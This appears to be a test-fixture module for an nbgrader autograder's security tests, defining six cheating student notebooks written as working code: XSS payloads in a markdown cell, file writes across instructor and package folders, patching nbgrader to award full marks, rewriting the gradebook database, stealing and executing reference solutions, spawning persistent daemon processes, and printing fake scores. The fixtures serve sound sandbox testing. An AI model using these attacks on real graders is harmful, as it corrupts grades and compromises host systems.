"""The nbgrader path's red team: submitted notebooks whose cells attack the course.

Each cheat is one student who fetched the released notebooks, answered every cell with the
reference, and then replaced the answer cell of ``target`` with a wrong body plus the cheat, and
added cells of their own (``added``: code cells put first in the notebook of the target, which a
student runs before anything else). Honestly, ``target`` earns 0 and everything else full marks.
``KNOWN`` (prepended to every cheat's cells) holds the real paths a well-informed student aims at:
the course folder, its gradebook, the source notebooks, the grader's solutions and package,
nbgrader's package, the instructor's home, and a unique mark.
"""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class NotebookCheat:
    id: str
    target: str                   # the function whose answer cell holds the cheat
    answer: str                   # that cell's source: a wrong body plus the cheat
    added: tuple[str, ...] = ()   # cells the student added (first in the notebook)
    markdown: str = ""            # a markdown cell the student added (``@MARK@``: the mark)
    fake_outputs: bool = False    # the submitted test cells carry outputs claiming full marks
    spawns: bool = False          # starts processes carrying the mark
    forbid: str = ""              # a phrase no feedback page may show


_WRITE_EVERYWHERE = '''
import os as _os


def _write_everywhere():
    for place in (KNOWN["home"], KNOWN["course"], KNOWN["course"] + "/source/d2l",
                  KNOWN["course"] + "/submitted", KNOWN["package"], "/tmp"):
        try:
            with open(_os.path.join(place, "PWNED-" + KNOWN["mark"]), "w") as handle:
                handle.write(KNOWN["mark"])
        except OSError:
            pass
    try:
        with open(KNOWN["course"] + "/nbgrader_config.py", "a") as handle:
            handle.write("\\n# " + KNOWN["mark"] + "\\n")
    except OSError:
        pass


_write_everywhere()
'''

WRITE_OUTSIDE = NotebookCheat("write_outside", "relu", _WRITE_EVERYWHERE + '''

def relu(X):
    # writes its mark all over the host at import and on every call; returns X unchanged
    _write_everywhere()
    return X
''', added=(_WRITE_EVERYWHERE,), markdown=(
    '<script>fetch("/api/contents?@MARK@")</script>\n\n'
    '<img src="x" onerror="fetch(\'/api/kernels?@MARK@\', {method: \'POST\'})">'))

EDIT_GRADER = NotebookCheat("edit_grader", "softmax", '''
import glob as _glob


def _edit_the_grader():
    paths = (_glob.glob(KNOWN["package"] + "/**/*.py", recursive=True)
             + _glob.glob(KNOWN["package"] + "/*.toml") + [KNOWN["nbgrader"] + "/utils.py"])
    for path in paths:
        try:
            with open(path, "a") as handle:
                handle.write("\\n# " + KNOWN["mark"] + "\\n")
        except OSError:
            pass
    try:  # nbgrader reads the scores from the test cells: make it give every cell full marks
        with open(KNOWN["nbgrader"] + "/utils.py", "a") as handle:
            handle.write("\\ndetermine_grade = lambda cell, log=None: (float(cell.metadata['nbgrader']"
                         "['points']),) * 2  # " + KNOWN["mark"] + "\\n")
    except OSError:
        pass


def softmax(X):
    # edits the grader, then exponentiates without normalising
    _edit_the_grader()
    return X.exp()
''', added=('''
import os as _os
try:
    _os.remove(KNOWN["package"] + "/rubric.toml")
except OSError:
    pass
''',))

OPEN_GRADEBOOK = NotebookCheat("open_gradebook", "l2_penalty", '''
import sqlite3 as _sqlite3


def _full_marks():
    for db in (KNOWN["gradebook"], "../gradebook.db", "../../gradebook.db", "/work/gradebook.db"):
        try:
            connection = _sqlite3.connect(db)
            connection.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
            connection.execute("UPDATE grade_cells SET max_score = 1000")
            connection.commit()
            connection.close()
        except Exception:
            pass


def l2_penalty(w):
    # rewrites the gradebook, then returns no penalty at all
    _full_marks()
    return (w * 0).sum()
''')

READ_SOURCES = NotebookCheat("read_sources", "huber_loss", '''
import json as _json
import re as _re


def _stolen():
    # the instructor's answer, from the source notebook, solutions/ or a classmate's
    found = {}
    for path in (KNOWN["source_notebook"], KNOWN["solutions"] + "/regularization.py",
                 KNOWN["course"] + "/autograded/write_outside/d2l/regularization.ipynb"):
        try:
            text = open(path).read()
        except OSError:
            continue
        if path.endswith(".ipynb"):
            text = "\\n".join("".join(cell["source"]) for cell in _json.loads(text)["cells"]
                              if cell["cell_type"] == "code")
        match = _re.search(r"^def huber_loss\\(.*?(?=^def |\\Z)", text, _re.S | _re.M)
        if match:
            exec(match.group(0), globals(), found)
            return found["huber_loss"]
    return None


def huber_loss(y_hat, y, delta=1.0):
    # the instructor's huber_loss when it could be read; else nothing useful
    answer = _stolen()
    if answer is not None:
        return answer(y_hat, y, delta)
    return y_hat * 0
''')

FORK_SURVIVOR = NotebookCheat("fork_survivor", "squared_loss", '''
import os as _os
import subprocess as _subprocess
import sys as _sys
import time as _time

_STARTED = []


def _daemons():
    # a detached `sleep` and a forked, re-parented Python, both carrying the mark
    _subprocess.Popen(["sleep", "300", KNOWN["mark"]], start_new_session=True,
                      stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
    child = _os.fork()
    if child == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", "import time\\nwhile True: time.sleep(1)",
                                        KNOWN["mark"]])
        _os._exit(0)
    _os.waitpid(child, 0)
    _time.sleep(0.5)  # up and running before this returns (the test watches for them)


def squared_loss(y_hat, y):
    # starts processes meant to outlive grading (once); returns zeros
    if not _STARTED:
        _STARTED.append(True)
        _daemons()
    return y_hat * 0
''', added=('''
import subprocess as _subprocess
_subprocess.Popen(["sleep", "300", KNOWN["mark"]], start_new_session=True)
''',), spawns=True)

FAKE_SCORE = NotebookCheat("fake_score", "cross_entropy", '''
import json as _json


def cross_entropy(y_hat, y):
    # picks the wrong entries and prints a perfect score
    print("FAKE-SCORE: 124/124. All tests passed!")
    print(_json.dumps({"score": 124, "tests": [{"name": "cross_entropy", "score": 4, "max_score": 4}]}))
    return -y_hat[range(len(y_hat)), 0]
''', added=('''
print("FAKE-SCORE: 124/124")
from IPython.display import display as _display
_display(124)
''',), fake_outputs=True, forbid="FAKE-SCORE")

ALL: tuple[NotebookCheat, ...] = (WRITE_OUTSIDE, EDIT_GRADER, OPEN_GRADEBOOK, READ_SOURCES,
                                  FORK_SURVIVOR, FAKE_SCORE)
CONTROLS: tuple[str, ...] = ("get_k_fold_data", "sgd")   # untouched by every cheat
